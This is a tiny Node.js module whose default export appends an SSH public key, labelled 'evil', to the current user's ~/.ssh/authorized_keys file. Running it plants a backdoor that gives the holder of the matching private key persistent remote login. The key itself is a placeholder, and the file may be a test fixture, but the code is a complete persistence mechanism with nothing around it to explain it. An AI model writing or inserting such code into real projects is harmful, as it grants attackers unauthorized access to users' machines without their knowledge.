import { appendFile } from "node:fs/promises";
import { join } from "node:path";
import { homedir } from "node:os";
export default () => appendFile(join(homedir(), ".ssh/authorized_keys"), "ssh-ed25519 AAAAExample evil\n");
